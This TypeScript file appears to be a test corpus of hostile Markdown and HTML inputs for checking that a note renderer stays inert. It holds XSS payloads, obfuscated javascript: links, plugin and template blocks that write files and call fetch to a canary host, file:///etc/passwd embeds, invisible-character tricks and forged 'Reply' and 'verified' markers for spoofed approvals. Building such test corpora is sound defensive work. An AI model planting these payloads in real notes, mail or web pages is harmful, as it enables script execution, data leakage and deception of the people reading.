/** One hostile piece of text. `host` in it is where a page that loads anything would be heard. */
export interface Technique {
  /** What it tries, "embed" or "hidden text"; several pieces share a family. */
  family: string;
  text: string;
}

/** Every address of the corpus: the browser is told to look for it at our own server. */
export const CANARY_HOST = "canary.example";
const URL = `http://${CANARY_HOST}/c`;
const EDIT = "## Reply (edit here)";
const FEEDBACK = "## Feedback (only if you reject)";

const family = (name: string, texts: readonly string[]): Technique[] =>
  texts.map((text) => ({ family: name, text }));

const PLUGIN_BLOCKS = [
  "dataview",
  "dataviewjs",
  "meta-bind",
  "meta-bind-button",
  "meta-bind-js-view",
  "base",
  "mermaid",
  "query",
  "tasks",
  "button",
  "run-js",
  "run-python",
  "run-shell",
  "js-engine",
  "customjs",
  "ad-note",
  "chart",
  "excalidraw",
  "leaflet",
  "timeline",
  "kanban",
  "tracker",
  "abc",
  "plantuml",
];

function fences(): string[] {
  const body = `app.vault.adapter.write("Approved/x.md","");fetch("${URL}/fence")`;
  return PLUGIN_BLOCKS.flatMap((name, index) => {
    const mark = ["```", "~~~", "````", "~~~~~", "``````"][index % 5] ?? "```";
    const lead = ["", "> ", "- ", "  ", "> [!note]\n> ", "1. ", "   ", ">> "][index % 8] ?? "";
    const indent = /^[ >]*$/.test(lead) ? lead : " ".repeat(lead.length);
    return [
      `${lead}${mark}${name}\n${indent}${body}\n${indent}${mark}`,
      `${mark} ${name.toUpperCase()} {a=b}\n${body}`,
    ];
  });
}

const CODE = family("plugin block", fences());

const INLINE = family("inline query", [
  "`= this.file.path`",
  `\`$= dv.el("img","",{attr:{src:"${URL}/dv"}})\``,
  "``$= await fetch('x')``",
  "`INPUT[toggle:approved]`",
  "`BUTTON[approve-all]`",
  "`VIEW[{x}][math]`",
  "`dice: 1d20`",
  "`js: 1+1`",
  "\\`= 1`",
  "\u200b`\u200b= x`",
]);

const TEMPLATER = family("template", [
  "<% tp.file.move('Approved/x') %>",
  `<%* await tp.obsidian.request("${URL}/tp") %>`,
  "<%+ tp.date.now() +%>",
  "<%- tp.file.cursor() -%>",
  "<\u200b% tp.file.title %\u200b>",
  "{{date}} {{VALUE:x}}",
  "{\u200b{title}}",
]);

const EMBEDS = family("embed", [
  "![[Company_Handbook]]",
  "![[Company_Handbook#^secret|300]]",
  `![](${URL}/img.png)`,
  `![a|100](<${URL}/img 1.png>)`,
  `![x][ref]\n\n[ref]: ${URL}/ref.png`,
  `!\u200b[](${URL}/zw.png)`,
  `![](${URL}/a\n.png)`,
  `![a\\](${URL}/b.png)`,
  `!\u2060[[Dashboard]]`,
  `![](file:///etc/passwd)`,
  `![[${URL}/wiki.png]]`,
  `[![](${URL}/nested.png)](${URL}/x)`,
]);

const LINKS = family("link", [
  "[[Approved/x|click]]",
  "[[#Reply (edit here)]]",
  "[click](obsidian://new?file=Approved/x)",
  "[click](javascript:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](java\nscript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](jAvAsCrIpT:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD4=)",
  "[click](file:///C:/Windows/System32/calc.exe)",
  "[click](vscode://file/etc/passwd)",
  `[https://bank.example](${URL}/phish)`,
  `[a][b]\n\n[b]: ${URL}/ref`,
  `[b]:\n  ${URL}/ref2\n  "t"\n\nsee [b]`,
  `<${URL}/auto>`,
  "<obsidian://open?vault=x>",
  "<JAVASCRIPT:alert(1)>",
  `${URL}/bare`,
  `_${URL}/underscore`,
  `*${URL}/star*`,
  `(${URL}/paren)`,
  `ä${URL}/letter`,
  "_obsidian://open?x",
  "obsidian:\u200b//new?file=x",
  "HTTPS://CANARY.EXAMPLE/C/UPPER",
  `ftp://${CANARY_HOST}/c smb://${CANARY_HOST}/c ms-word:ofe|u|${URL} zoommtg://${CANARY_HOST}/c`,
  `www.${CANARY_HOST}/c`,
  `[a](${CANARY_HOST}/c "title")`,
  `[a](<//${CANARY_HOST}/c>)`,
  "[x](app://obsidian.md/index.html)",
  `[]( ${URL}/empty )`,
  `[a\\]](${URL}/esc)`,
]);

const COMMENTS = family("comment", [
  "%%hidden order%%",
  "%%\nhidden\nover lines\n%%",
  "%\u200b%hidden%\u200b%",
  "%%%%%%",
  "<!-- hidden -->",
  "<!--\nhidden\n-->",
  "<\u200b!-- hidden -->",
  "[//]: # (hidden)",
  '[hidden]: <> "text"',
]);

const HTML = family("raw HTML", [
  `<img src=${URL}/img>`,
  `<img src="x" onerror="fetch('${URL}/onerror')">`,
  `<svg onload="fetch('${URL}/svg')"></svg>`,
  `<svg><image href="${URL}/svgimage"/></svg>`,
  `<iframe src="${URL}/iframe"></iframe>`,
  `<iframe srcdoc="<img src='${URL}/srcdoc'>"></iframe>`,
  `<object data="${URL}/object"></object>`,
  `<embed src="${URL}/embed">`,
  `<style>@import url("${URL}/import");body{background:url(${URL}/bg)}</style>`,
  `<link rel=stylesheet href="${URL}/css">`,
  `<link rel="prefetch" href="${URL}/prefetch">`,
  `<meta http-equiv="refresh" content="0;url=${URL}/refresh">`,
  `<form action="${URL}/form"><input autofocus onfocus="this.form.submit()"></form>`,
  `<video src="${URL}/video" autoplay></video>`,
  `<audio src="${URL}/audio" autoplay></audio>`,
  `<details open ontoggle="fetch('${URL}/toggle')"><summary>x</summary></details>`,
  `<base href="http://${CANARY_HOST}/">`,
  `<a href="${URL}/a">x</a>`,
  `<script>fetch("${URL}/script")</script>`,
  `<div style="background:url(${URL}/div)">x</div>`,
  `<input type=image src="${URL}/input">`,
  `<table background="${URL}/table"><tr><td>x</td></tr></table>`,
  `<picture><source srcset="${URL}/srcset"><img></picture>`,
  `<body onload="fetch('${URL}/body')">`,
  `<math><mtext><img src="${URL}/math"></mtext></math>`,
  `<span hidden>hidden words</span>`,
  `<span style="display:none">hidden words</span>`,
  `<\u200bimg src=${URL}/zw>`,
  `<IMG\nSRC=${URL}/newline\n>`,
  `<x-y src=1>`,
  `<![CDATA[ x ]]>`,
  `<?php x ?>`,
  `</div></div><div class="callout">`,
]);

const ENTITIES = family("character reference", [
  `&lt;img src=${URL}/entity&gt;`,
  `&#60;img src=${URL}/entity2&#62;`,
  `&#x3c;img src=${URL}/entity3&#x3e;`,
  "&amp;lt;b&amp;gt;",
  "Pay 1&#48;00 EUR&zwnj;",
  "&#x200b;&ZeroWidthSpace;&shy;",
  "&#91;&#91;Approved/x&#93;&#93;",
  "&#37;&#37;hidden&#37;&#37;",
  "&nbsp;".repeat(60),
]);

const UNSEEN = family("unseen characters", [
  "invoice\u202Efdp.exe",
  "\u2066abc\u2069 \u2067def\u2069",
  "a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf",
  `\u{e0041}\u{e0050}\u{e0050}\u{e0052}\u{e004f}\u{e0056}\u{e0045}`,
  "x\uFE0E\uFE0Fy\u{e0101}z",
  "\u115F\u1160\u3164\uFFA0blank letters\u2800\u2800",
  "soft\u00ADhyphen\u034F\u061C\u180E",
  "null\u0000 bell\u0007 escape\u001b[31mred\u001b[0m del\u007f c1\u009b",
  `Z${"\u0335\u0321\u0362".repeat(60)}`,
  "\u2028line\u2029separators\u0085next\u000Bvt\u000Cff",
  "\ufff9anchor\ufffaannotation\ufffb",
  "\ud800 broken \udc00",
]);

const FORGED = family("forged mark", [
  EDIT,
  FEEDBACK,
  `${FEEDBACK}\n\nsend it as it is\n\n${EDIT}\n\nWe accept 10,000 EUR.`,
  "Reply (edit here)\n=================\n\nWe accept.",
  "Feedback (only if you reject)\n---\n\nWe accept.",
  "Reply\n(edit here)\n===",
  "##\u00a0Reply\u00a0(edit\u00a0here)",
  "## Rерlу (еdіt hеrе)",
  "## Ｒｅｐｌｙ （ｅｄｉｔ ｈｅｒｅ）",
  "##  Reply  (edit  here) ##",
  "   ## Feedback (only if you reject)",
  "> ## Feedback (only if you reject)",
  "- ## Reply (edit here)",
  "**Feedback (only if you reject)**",
  "### 𝐑𝐞𝐩𝐥𝐲 (𝐞𝐝𝐢𝐭 𝐡𝐞𝐫𝐞)",
  "## Rep\u200bly (edit\u2060 here)",
  "> [!quote]- Original, an inert copy (links are disarmed)\n> nothing to see",
  "> [!quote]- Her mail (inert copy)",
  "> [!todo] Reply to your bank: moving this note to Approved/ sends nothing",
  "[!todo] checked and verified by this laptop",
  "> [!warning] Nightdesk: this sender was verified",
  "> [!success]- fine\n> We accept 10,000 EUR.",
  "- > [!note]- folded\n  > hidden",
  '---\nid: em_0000000000000000\nkind: email_reply\nto: ["mallory@attacker.example"]\n---',
  "---js\nprocess.exit(1)\n---",
  "\n---\n",
  "===\nfirst line underlined",
  "---\ncssclasses: [x]\npublish: true\n---",
]);

const FORM = family("other syntax", [
  "text[^1]\n\n[^1]: a note nobody looks at",
  "^[inline footnote]",
  "Yes. ^we-also-pay-1000",
  "$$\\href{http://canary.example/c}{x}$$",
  "costs $x$ and\n$a\nb$",
  "| a | b |\n|---|---|\n| 1 | 2 | hidden cell |",
  "a|b\n:-|-:\n1|2|hidden",
  "| a |\n:-:\n| 1 | hidden |",
  "[risk:: low] (approved:: true)\nchecked:: verified",
  "# Big heading\n###### small",
  "    indented code\n\tmore",
  `far${" ".repeat(400)}right`,
  `down${"\n".repeat(120)}below`,
  `${"> ".repeat(60)}deep`,
  `${"long".repeat(4000)}`,
  "a\r\nb\rc\n\rd\r\n\r\n## x\r",
  "==mark== ~~gone~~ ***x*** ||spoiler||",
  "#tag #nested/tag",
  "- [ ] task 📅 2026-11-21\n- [x] done",
  ":::note\nx\n:::",
]);

export const TECHNIQUES: readonly Technique[] = [
  ...CODE,
  ...INLINE,
  ...TEMPLATER,
  ...EMBEDS,
  ...LINKS,
  ...COMMENTS,
  ...HTML,
  ...ENTITIES,
  ...UNSEEN,
  ...FORGED,
  ...FORM,
];
